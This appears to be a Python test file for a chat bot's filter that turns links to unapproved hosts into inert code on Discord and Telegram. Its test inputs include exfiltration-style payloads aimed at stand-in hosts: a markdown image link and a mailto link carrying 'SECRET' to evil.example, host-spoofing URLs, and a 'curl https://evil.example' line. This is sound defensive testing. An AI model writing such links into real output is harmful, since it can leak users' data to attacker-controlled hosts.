"""Where a model's words may lead: to hosts that somebody has named, and the address of any other is code."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from adapters.discord.words.safety import safe
from adapters.telegram.words.markdown import plain, rendered
from bot.delivery.clusters import units
from bot.links import Known, hosts, leads
from tests.platforms.discord.pressed import pressed
from tests.platforms.telegram.found import find
from tests.platforms.telegram.units import checked, cleaned
from tests.test_telegram_markdown import given_to

KNOWN = frozenset({"known.example"})
PARTS = [
    "[", "]", "(", ")", "<", ">", "`", "``", "```", "```py\n", "\n", "\n\n", "**", "*", "_", "__", "~~", "||",
    "\\", " ", "a", "!", "|", "](", "[x](", "https://evil.example/x_y",
    "http://known.example@evil.example", "evil.com/?q=1",
    "https://known.example/a", "https://known.example",
    ".evil.example", "steam://run/1", "https:/evil.example",
    "HTTPS://EVIL.EXAMPLE", "mailto:a@evil.example",
]  # fmt: skip
texts = st.lists(st.sampled_from(PARTS), max_size=24).map("".join)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("see https://evil.example/a_b.", "see `https://evil.example/a_b`."),
        ("![x](https://evil.example/?q=SECRET)", "!x `https://evil.example/?q=SECRET`"),
        ("[https://discord.com](https://evil.example)", "`https://evil.example`"),
        ("[the docs](https://evil.example/a)", "the docs `https://evil.example/a`"),
        ("<img src='https://evil.example/i.png'>", "<img src='`https://evil.example/i.png`'>"),
        ("**https://evil.example/x**", "**`https://evil.example/x`**"),
        ("a ` b https://evil.example", "a ` b ``https://evil.example``"),
        ("``` a https://evil.example/x", "``` a evil.example/x"),
        ("_a https://evil.example/b_c", "_a evil.example/b_c"),
        ("https://known.example@evil.example/x", "`https://evil.example/x`"),
        ("https://known.example.evil.example", "`https://known.example.evil.example`"),
        ("[mail](mailto:a@evil.example?body=SECRET)", "mail `mailto:a@evil.example?body=SECRET`"),
        ("https://www.known.example/a, [b](https://known.example:443/)",
         "https://www.known.example/a, b <https://known.example:443/>"),
        ("https://discord.com/channels/1/2/3 https://discord.com/api/oauth2/authorize",
         "https://discord.com/channels/1/2/3 `https://discord.com/api/oauth2/authorize`"),
        ("`curl https://evil.example` and\n```sh\ncurl https://evil.example\n```",
         "`curl https://evil.example` and\n```sh\ncurl https://evil.example\n```"),
    ],
)  # fmt: skip
def test_on_discord_an_address_that_nobody_named_is_code(written: str, shown: str) -> None:
    assert safe(written, KNOWN) == shown


@given(texts)
@example("**a `b** https://evil.example/ ` c")
@example("**a https://evil.example/** b")
@example("\\https://evil.example")
@example("```https://evil.example`` ` ```")
def test_nothing_that_a_model_writes_leads_from_discord_to_where_it_may_not(text: str) -> None:
    for shown in (safe(text, KNOWN), safe(text, KNOWN, tight=True)):
        assert [one for one in pressed(shown) if not leads(one, KNOWN)] == []


@given(texts)
def test_a_text_of_addresses_fits_into_a_message_all_the_same(text: str) -> None:
    assert units(safe(text, KNOWN, tight=True)) <= units(text)


@given(texts)
@example("[a](https://evil.example) evil.com/x README.md " + "`b` " * 120 + "https://evil.example/c")
def test_nothing_leads_from_telegram_to_where_it_may_not(text: str) -> None:
    for said in (
        rendered(text, links=KNOWN),
        rendered(text, 40, KNOWN),
        plain(rendered(text).text, None, KNOWN),
    ):
        found = find(cleaned(checked(said.text, given_to(said))))
        raw = found.text.encode("utf-16-le")
        for one in found.entities:
            if one["type"] in ("url", "text_link"):
                words = raw[2 * one["offset"] : 2 * (one["offset"] + one["length"])].decode("utf-16-le")
                address = one.get("url", words)
                assert leads(address, KNOWN) or hosts(address.partition("/")[0]) <= KNOWN, said


def test_telegram_shows_a_foreign_address_as_code_beside_its_words() -> None:
    said = rendered("[docs](https://evil.example/a) [b](https://known.example) evil.com/?q=S", links=KNOWN)
    assert said.text == "docs https://evil.example/a b (known.example) evil.com/?q=S"
    assert [(one.type, one.offset, one.length) for one in said.entities] == [
        ("code", 5, 22), ("text_link", 28, 1), ("code", 46, 13)
    ]  # fmt: skip
    assert plain(said.text, None, KNOWN).text == "docs [removed] b (known.example) [removed]"


def test_what_was_heard_or_is_allowed_may_be_linked_to() -> None:
    known = Known(allowed=("wiki.example",))
    text = (
        "https://Known.example/a https://www.other.example. https://a.wiki.example https://evilwiki.example"
    )
    assert known.among(text) == {"a.wiki.example"}
    known.hear("Look at known.example, please.", "http://ann@www.other.example:8080/x")
    assert known.among(text) == {"known.example", "other.example", "a.wiki.example"}
    assert known.among("https://known.example.evil.example") == frozenset()


@given(st.text() | texts)
@example("a-" * 50_000)
@example("a." * 50_000)
def test_hosts_are_found_in_whatever_is_written(text: str) -> None:
    for host in hosts(text):
        assert host in text.lower()
